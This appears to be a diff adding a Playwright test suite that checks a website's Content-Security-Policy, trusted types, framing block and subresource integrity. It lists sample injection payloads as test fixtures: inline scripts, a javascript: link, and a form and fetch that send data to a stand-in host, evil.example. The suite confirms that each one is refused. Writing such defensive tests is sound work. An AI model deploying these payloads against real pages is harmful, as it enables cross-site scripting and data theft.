@@ -1,0 +1,268 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { createHash } from 'node:crypto'
+import type { Page } from '@playwright/test'
+import { contactContent } from '../../src/content/contact'
+import { homeContent } from '../../src/content/home'
+import { site } from '../../src/content/site'
+import { fillIn, sendButtonOf, sentTitleOf } from '../helpers/enquiry'
+import { allPages, pages } from '../helpers/pages'
+import { expect, missingPathWarning, notFoundStatus, open, ready, test } from '../helpers/site-test'
+
+const dist = new URL('../../dist/', import.meta.url)
+const htmlFiles = readdirSync(dist, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.html'))
+const sha = (content: string | Buffer) => `sha256-${createHash('sha256').update(content).digest('base64')}`
+
+declare global {
+  var violations: string[]
+}
+
+/** Notes from the start what the policy refuses, as `directive target`. */
+const noteViolations = (page: Page) =>
+  page.addInitScript(() => {
+    globalThis.violations = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, disposition }) => {
+      // The same policy is in the page and in its header: each reports.
+      const violation = `${effectiveDirective} ${/^https?:/.test(blockedURI) ? new URL(blockedURI).origin : blockedURI}`
+      if (disposition === 'enforce' && !globalThis.violations.includes(violation)) globalThis.violations.push(violation)
+    })
+  })
+
+const violationsOf = (page: Page) => page.evaluate(() => globalThis.violations)
+
+for (const { path } of allPages) {
+  test(`${path} has its policy twice, the same in its head and its header but for frames`, async ({ request }) => {
+    const response = await request.get(path)
+    const page = await response.text()
+    const [head = ''] = page.split(/<script|<style|<link rel="(?:modulepreload|preload|stylesheet)"/)
+    const meta = head.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/)?.[1]
+    expect(response.headersArray().filter(({ name }) => name === 'content-security-policy')).toEqual([
+      { name: 'content-security-policy', value: `${meta};frame-ancestors 'none'` },
+    ])
+    expect(meta).toContain("default-src 'none';")
+    expect(meta).toContain("require-trusted-types-for 'script';trusted-types 'none'")
+    expect(meta).not.toMatch(/unsafe|\*|data:|blob:|https?:/)
+  })
+
+  test(`${path} refuses nothing of its own while a visitor does everything there is to do`, async ({ page, noise }) => {
+    await noteViolations(page)
+    await open(page, path)
+    await page.keyboard.press('Tab')
+    const height = await page.evaluate(() => document.documentElement.scrollHeight)
+    for (let top = 0; top < height; top += 800) {
+      await page.mouse.wheel(0, 800)
+      await page.waitForTimeout(50)
+    }
+    const folded = page.getByRole('main').locator('button[aria-expanded]')
+    for (let index = 0; index < (await folded.count()); index += 1) await folded.nth(index).click()
+    await page.getByRole('contentinfo').getByRole('link', { name: 'Privacy' }).click()
+    await expect(page).toHaveURL('/privacy')
+    await page.goBack()
+    await ready(page)
+    expect(await violationsOf(page)).toEqual([])
+    noise.splice(0, noise.length, ...noise.filter((line) => ![notFoundStatus, missingPathWarning(path)].includes(line)))
+  })
+}
+
+test('menu, tooltip, form and toast are refused nothing', async ({ page, noise }) => {
+  await noteViolations(page)
+  await page.setViewportSize({ width: 390, height: 844 })
+  await open(page, '/')
+  await page.getByRole('button', { name: site.openMenuLabel }).click()
+  await page.getByRole('navigation', { name: site.menuLabel }).getByRole('link', { name: 'Results' }).click()
+  await page.setViewportSize({ width: 1280, height: 800 })
+  await open(page, '/')
+  const [publication] = homeContent.publications.publications
+  const name = page.getByRole('button', { name: publication?.name, exact: true }).first()
+  await expect(name).toHaveAttribute('data-state', 'closed')
+  await name.evaluate((button) => button.scrollIntoView({ block: 'center', behavior: 'instant' }))
+  await name.hover({ force: true })
+  await expect(page.getByRole('tooltip').first()).toBeVisible()
+  await page.keyboard.press('Escape')
+
+  await page.getByRole('banner').getByRole('link', { name: site.consultation.label }).click()
+  await expect(page).toHaveURL('/contact')
+  await page.getByRole('button', { name: contactContent.faq.items[0]?.question }).click()
+  await sendButtonOf(page).click()
+  await expect(page.getByText(contactContent.form.fields.name.label).first()).toBeVisible()
+  await fillIn(page)
+  await sendButtonOf(page).click()
+  await expect(sentTitleOf(page)).toBeVisible()
+  expect(noise.splice(0).filter((line) => !line.startsWith('info: Enquiry '))).toEqual([])
+  expect(await violationsOf(page)).toEqual([])
+})
+
+// What an attacker adds who can write into the page, what makes it act, and how the policy reports it.
+const evil = 'https://evil.example'
+const attacks: { name: string; markup: string; violation: string; act?: (page: Page) => Promise<unknown> }[] = [
+  { name: 'script', markup: '<script>owned = true</script>', violation: 'script-src-elem inline' },
+  {
+    name: 'script from elsewhere',
+    markup: `<script src="${evil}/a.js"></script>`,
+    violation: `script-src-elem ${evil}`,
+  },
+  {
+    name: 'handler',
+    markup: '<img src="/favicon.svg" alt="" onload="owned = true">',
+    violation: 'script-src-attr inline',
+  },
+  {
+    name: 'javascript: link',
+    markup: '<a id="bait" href="javascript:owned = true">Free</a>',
+    violation: 'script-src-elem inline',
+    act: (page) => page.locator('#bait').click(),
+  },
+  { name: 'style', markup: '<style>body { display: none }</style>', violation: 'style-src-elem inline' },
+  {
+    name: 'style sheet from elsewhere',
+    markup: `<link rel="stylesheet" href="${evil}/a.css">`,
+    violation: `style-src-elem ${evil}`,
+  },
+  { name: 'style attribute', markup: '<p style="position: fixed">Look</p>', violation: 'style-src-attr inline' },
+  { name: 'base', markup: `<base href="${evil}/">`, violation: `base-uri ${evil}` },
+  {
+    name: 'form',
+    markup: `<form id="bait" action="${evil}/take" method="post"></form>`,
+    violation: `form-action ${evil}`,
+    // Past the start script, which would keep a form from being sent.
+    act: (page) => page.evaluate(() => document.querySelector<HTMLFormElement>('#bait')?.submit()),
+  },
+  { name: 'frame', markup: `<iframe src="${evil}/"></iframe>`, violation: `frame-src ${evil}` },
+  { name: 'picture from elsewhere', markup: `<img src="${evil}/a.png" alt="">`, violation: `img-src ${evil}` },
+  { name: 'plugin', markup: `<object data="${evil}/a.swf"></object>`, violation: `object-src ${evil}` },
+  {
+    name: 'request to elsewhere',
+    markup: '',
+    violation: `connect-src ${evil}`,
+    act: (page) => page.evaluate((address) => fetch(address).catch(() => undefined), `${evil}/take`),
+  },
+  {
+    name: 'written markup',
+    markup: '<p id="bait"></p>',
+    violation: 'require-trusted-types-for trusted-types-sink',
+    act: (page) =>
+      page.evaluate(() => {
+        const bait = document.getElementById('bait') as HTMLElement
+        const write = () => (bait.innerHTML = '<img src="/favicon.svg" onload="owned = true">')
+        try {
+          write()
+        } catch {
+          // As it should: the sink refuses a plain string.
+        }
+      }),
+  },
+]
+
+test('whatever is injected is refused and reported by its directive, and the page works on', async ({
+  page,
+  noise,
+  baseURL,
+}) => {
+  await noteViolations(page)
+  const elsewhere: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(String(baseURL))) elsewhere.push(request.url())
+  })
+  let markup = ''
+  await page.route('/', async (route) => {
+    const response = await route.fetch()
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) })
+  })
+  for (const attack of attacks) {
+    markup = attack.markup
+    await page.goto('/')
+    await attack.act?.(page)
+    await expect.poll(() => violationsOf(page), attack.name).toEqual([attack.violation])
+    expect(await page.evaluate(() => 'owned' in globalThis), attack.name).toBe(false)
+    // Only after its report: what is asked in vain comes to the test as a request, too.
+    expect(elsewhere.splice(0).length, attack.name).toBeLessThanOrEqual(1)
+    expect(noise.splice(0).join(), attack.name).toMatch(/Content Security Policy|requires 'Trusted/)
+  }
+  await ready(page)
+})
+
+test('no page of ours may be shown in a frame, not even by another of ours', async ({ page, noise }) => {
+  const body = '<iframe src="/contact"></iframe>'
+  await page.route('/framing', (route) => route.fulfill({ contentType: 'text/html', body }))
+  await page.goto('/framing')
+  await expect.poll(() => noise.join()).toContain("frame-ancestors 'none'")
+  expect(await page.frames().at(1)?.locator('#root').count()).toBe(0)
+  noise.splice(0)
+})
+
+test('every hash and integrity value in the built pages is that of the bytes it stands for', () => {
+  expect(htmlFiles.length).toBeGreaterThanOrEqual(8)
+  for (const name of htmlFiles) {
+    const page = readFileSync(new URL(name, dist), 'utf8')
+    const policy = page.match(/Content-Security-Policy" content="([^"]+)"/)?.[1] ?? ''
+    const inlined = [...page.matchAll(/<(script|style)\b([^>]*)>([\s\S]*?)<\/\1>/g)].filter(
+      ([, , attributes]) => !attributes?.includes('ld+json'),
+    )
+    const hashes = inlined.map(([, , , content = '']) => sha(content))
+    // All of them, and none that nothing needs.
+    expect([...policy.matchAll(/'(sha256-[^']+)'/g)].map(([, hash = '']) => hash).toSorted(), name).toEqual(
+      hashes.toSorted(),
+    )
+
+    const map = JSON.parse(page.match(/<script type="importmap">(.*?)<\/script>/)?.[1] ?? '') as {
+      integrity: Record<string, string>
+    }
+    const code = readdirSync(new URL('assets/', dist)).filter((file) => file.endsWith('.js'))
+    const bytes = (address: string) => readFileSync(new URL(`.${address}`, dist))
+    expect(map.integrity).toEqual(
+      Object.fromEntries(code.map((file) => [`/assets/${file}`, sha(bytes(`/assets/${file}`))])),
+    )
+    const tags = [...page.matchAll(/<(?:script|link)\b[^>]*>/g)].map(([tag]) => tag)
+    const loads = tags.filter((tag) => /\ssrc=|rel="(?:modulepreload|stylesheet)"/.test(tag))
+    expect(loads.length).toBeGreaterThan(3)
+    for (const tag of loads) {
+      const address = tag.match(/\s(?:href|src)="([^"]+)"/)?.[1] ?? ''
+      expect(tag).toContain(` integrity="${sha(bytes(address))}"`)
+    }
+  }
+})
+
+test('no built page has a style attribute or an inline handler', () => {
+  for (const name of htmlFiles) {
+    const page = readFileSync(new URL(name, dist), 'utf8').replaceAll(/<(script|style)\b[\s\S]*?<\/\1>/g, '')
+    expect(page.match(/<[^>]*\s(?:style|on[a-z]+)=[^>]*>/g), name).toBeNull()
+  }
+})
+
+/** A chunk to which one byte was added on its way, or the code that says so if it runs. */
+const harm = (page: Page, chunk: string, added = ' ') =>
+  page.route(`**/assets/${chunk}-*.js`, async (route) => {
+    const response = await route.fetch()
+    await route.fulfill({ response, body: added + (await response.text()) })
+  })
+
+const scriptsFailed = (page: Page) =>
+  expect.poll(() => page.evaluate(() => document.documentElement.dataset.scripts), { timeout: 15_000 }).toBe('failed')
+
+for (const chunk of ['react', 'styles', 'shared', 'main', 'home-page']) {
+  test(`with one byte more, the code ${chunk} does not run`, async ({ page, noise }) => {
+    await harm(page, chunk)
+    await page.goto('/')
+    await scriptsFailed(page)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    expect(noise.splice(0).join()).toContain('integrity')
+  })
+}
+
+test('code that is loaded later does not run either when it was changed', async ({ page, noise }) => {
+  await harm(page, 'contact-page', 'globalThis.owned = true;')
+  await open(page, '/privacy')
+  await page.getByRole('banner').getByRole('link', { name: site.consultation.label }).click()
+  await expect(page).toHaveURL('/contact', { timeout: 20_000 })
+  await scriptsFailed(page)
+  expect(await page.evaluate(() => 'owned' in globalThis)).toBe(false)
+  expect(noise.splice(0).join()).toContain('integrity')
+})
+
+test('nothing is asked of another origin', async ({ page, baseURL }) => {
+  const elsewhere: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(String(baseURL))) elsewhere.push(request.url())
+  })
+  for (const { path } of pages) await open(page, path)
+  expect(elsewhere).toEqual([])
+})
